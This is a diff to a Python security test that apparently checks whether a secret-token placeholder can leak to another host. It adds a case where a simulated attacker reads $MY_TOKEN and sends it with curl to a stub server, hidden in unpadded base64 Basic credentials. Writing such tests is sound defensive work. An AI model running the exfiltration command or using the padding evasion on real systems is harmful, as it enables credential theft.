@@ -46,3 +46,25 @@ def test_the_placeholder_does_not_reach_another_host(attacker, how):
         attacker.run(how.format(url=url))
         got = _reached(stub, ph)
         assert not got, f"the placeholder reached {url}: {[(q['method'], q['path']) for q in got]}"
+
+
+def _lenient_b64(text):
+    """What Node's Buffer.from(x, 'base64') (Express basic-auth, …) reads: padding optional."""
+    import base64
+    return base64.b64decode(text + "=" * (-len(text) % 4)).decode("latin-1", "replace")
+
+
+def test_unpadded_basic_credentials_are_seen(attacker):
+    """Basic credentials are looked into only when their base64 is strict (validate=True, with
+    padding); servers that decode leniently (Node's Buffer, many others) read the placeholder
+    from unpadded base64 just the same."""
+    import base64
+    with servers() as (git, stub):
+        url = _setup(attacker, git, stub)
+        ph = attacker.run("printf %s \"$MY_TOKEN\"").stdout
+        user = next(u for u in ("a", "ab", "abc") if (len(u) + 1 + len(ph)) % 3)
+        b64 = base64.b64encode(f"{user}:{ph}".encode()).decode().rstrip("=")
+        attacker.run(f"curl -s -o /dev/null -H 'Authorization: Basic {b64}' {url}/")
+        got = [q for q in stub.requests if ph in _lenient_b64(
+            q["headers"].get("authorization", "Basic ").partition(" ")[2])]
+        assert not got, "the placeholder reached another host in Basic credentials without padding"
